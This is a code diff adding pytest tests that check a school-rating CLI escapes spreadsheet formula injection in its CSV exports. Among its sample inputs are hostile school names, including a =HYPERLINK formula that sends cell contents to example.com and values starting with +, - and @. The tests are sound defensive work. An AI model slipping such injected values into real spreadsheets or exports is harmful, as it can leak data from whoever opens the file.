@@ -10,7 +10,8 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import EXAMPLES
+from analytics.rubric import load_rubric
+from tests.conftest import EXAMPLES, SchoolSpec, write_long_csv
 
 ROOT = Path(__file__).resolve().parents[1]
 
@@ -128,3 +129,62 @@ class TestFidelityCommand:
         rows = list(csv.DictReader(io.StringIO(done.stdout.decode())))
         assert [(r["inn"], r["scope"], r["points_portal"]) for r in rows] == [(inn, "total", "99")]
         assert rows[0]["points_engine"] != "99"
+
+
+HOSTILE_NAMES = ('=HYPERLINK("http://example.com/?"&A2,"СОШ №1")', "+7 999 123-45-67", "-x школа")
+"""School names a spreadsheet would run as a formula or a link if written raw."""
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory) -> Path:
+    """Two rounds of three schools with hostile names, one in a hostile municipality; the
+    autumn round fails every critical indicator, so its totals fall."""
+    rubric = load_rubric("demo-2025")
+    folder = tmp_path_factory.mktemp("hostile")
+    criticals = tuple(i.number for i in rubric.indicators_of("general") if i.is_critical)
+    rounds = {"Весна 2026": (), "Осень 2026": criticals}
+    db = folder / "store.duckdb"
+    for round_name, failed in rounds.items():
+        schools = [
+            SchoolSpec(inn=f"47000000{i:02d}", name=name, municipality="@район", failed_critical=failed)
+            for i, name in enumerate(HOSTILE_NAMES)
+        ]
+        export = write_long_csv(folder / f"{round_name}.csv", rubric, schools)
+        done = run_cli("import", str(export), "--round", round_name, "--db", str(db))
+        assert done.returncode == 0, done.stderr.decode()
+    return db
+
+
+def read_cli_csv(done: subprocess.CompletedProcess[bytes], *, excel: bool) -> list[dict[str, str]]:
+    assert done.returncode == 0, done.stderr.decode()
+    text = done.stdout.decode("utf-8-sig" if excel else "utf-8")
+    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))
+
+
+class TestFormulaInjection:
+    """Names from the data reach CSV exports inert; numbers stay numbers."""
+
+    @pytest.mark.parametrize("excel", [False, True])
+    def test_levels_neutralise_names_and_keep_points(self, hostile_db, excel):
+        flag = ["--excel"] if excel else []
+        rows = read_cli_csv(
+            run_cli("levels", "--round", "Весна 2026", *flag, "--db", str(hostile_db)), excel=excel
+        )
+        assert sorted(r["name"] for r in rows) == sorted("'" + name for name in HOSTILE_NAMES)
+        assert {r["municipality"] for r in rows} == {"'@район"}
+        assert {r["inn"] for r in rows} == {"4700000000", "4700000001", "4700000002"}
+        assert {r["total"] for r in rows} == {"100"}
+        assert {r["knowledge_points"] for r in rows} == {"17"}
+
+    def test_compare_neutralises_names_and_keeps_totals(self, hostile_db):
+        done = run_cli(
+            "compare", "--from", "Весна 2026", "--to", "Осень 2026", "--excel", "--db", str(hostile_db)
+        )
+        rows = read_cli_csv(done, excel=True)
+        assert sorted(r["name"] for r in rows) == sorted("'" + name for name in HOSTILE_NAMES)
+        assert all(int(r["total_from"]) > int(r["total_to"]) for r in rows)
+        assert {r["change"] for r in rows} == {"снижение"}
+
+    def test_schools_list_neutralises_names(self, hostile_db):
+        rows = read_cli_csv(run_cli("schools", "--excel", "--db", str(hostile_db)), excel=True)
+        assert sorted(r["name"] for r in rows) == sorted("'" + name for name in HOSTILE_NAMES)
